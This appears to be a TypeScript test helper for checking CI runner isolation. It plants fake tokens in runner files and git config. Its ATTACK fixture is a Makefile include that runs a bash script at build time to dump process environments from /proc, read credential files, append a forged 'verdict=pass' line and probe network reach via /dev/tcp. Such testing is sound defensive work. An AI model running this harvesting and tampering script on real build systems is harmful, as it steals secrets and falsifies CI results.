import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Files } from '../git/repository.ts';
import type { ToyPull } from '../runner/toy-action.ts';

/** Shares nothing with the runs of other tests, whose processes the attack sees too. */
export const PLANTED = {
  jobToken: `job-token-${process.pid}`,
  runtimeToken: `runtime-token-${process.pid}`,
  gitConfig: `token-in-git-config-${process.pid}`,
  home: `token-in-home-${process.pid}`,
  temp: `token-in-runner-temp-${process.pid}`,
} as const;

/** Runs each time that make reads the Makefile; looks for keys and ways out, and writes what it finds to `O=`. */
export const ATTACK: Files = {
  'local.mk': '$(shell bash scripts/attack $(O))\n',
  'scripts/attack': `
exec > $1/found 2>&1
env
pid=$$
while [ "$pid" -gt 0 ]; do
  echo "ancestor: $(tr '\\0' ' ' < /proc/$pid/environ)"
  pid=$(awk '/^PPid/ { print $2 }' /proc/$pid/status)
done
echo "everyone: $(cat /proc/[0-9]*/environ | tr '\\0' ' ')"
. scripts/guesses
for folder in $FOLDERS; do
  ls -A $folder
  touch $folder/left-by-the-attack
done
for file in $FILES; do
  [ -e $file ] && echo "sees $file"
  cat $file
  echo 'verdict=pass' >> $file
done
(exec 3<>/dev/tcp/127.0.0.1/$PORT) && echo 'reaches the network'
`,
};

/** What the attacker guesses right: where things are on the runner. */
export interface Guesses {
  readonly files: readonly string[];
  readonly folders: readonly string[];
}

/** Plants keys where a runner has them, and tells the attack where to look. */
export async function plantKeys(pull: ToyPull): Promise<Guesses> {
  const beside = pull.kernel.beside;
  const files = [
    'output',
    'env',
    'path',
    'state',
    'summary.md',
    'event.json',
    'temp/git-credentials.config',
  ].map((name) => beside(join('runner', name)));
  const folders = [beside('.'), beside('runner'), beside('runner/temp'), beside('home'), pull.checkout];
  const guesses = { files: [...files, beside('home/.npmrc'), join(pull.checkout, '.git/config')], folders };
  await writeFile(beside('home/.npmrc'), PLANTED.home);
  await writeFile(beside('runner/temp/git-credentials.config'), PLANTED.temp);
  await pull.git('config', 'http.https://github.test/.extraheader', PLANTED.gitConfig);
  const port = new URL(pull.github.url).port;
  const text = `FILES='${guesses.files.join(' ')}'\nFOLDERS='${folders.join(' ')}'\nPORT=${port}\n`;
  await writeFile(join(pull.checkout, 'scripts/guesses'), text);
  return guesses;
}

const OUTPUT = 'runner/temp/kernel-size-budget/default/build/toy';

/** What the attack has written down, of the last run. */
export function readFindings(pull: ToyPull): Promise<string> {
  return readFile(join(pull.kernel.beside(OUTPUT), 'found'), 'utf8');
}

/** The kernel that the last run built. */
export function readVmlinux(pull: ToyPull): Promise<Buffer> {
  return readFile(join(pull.kernel.beside(OUTPUT), 'vmlinux'));
}
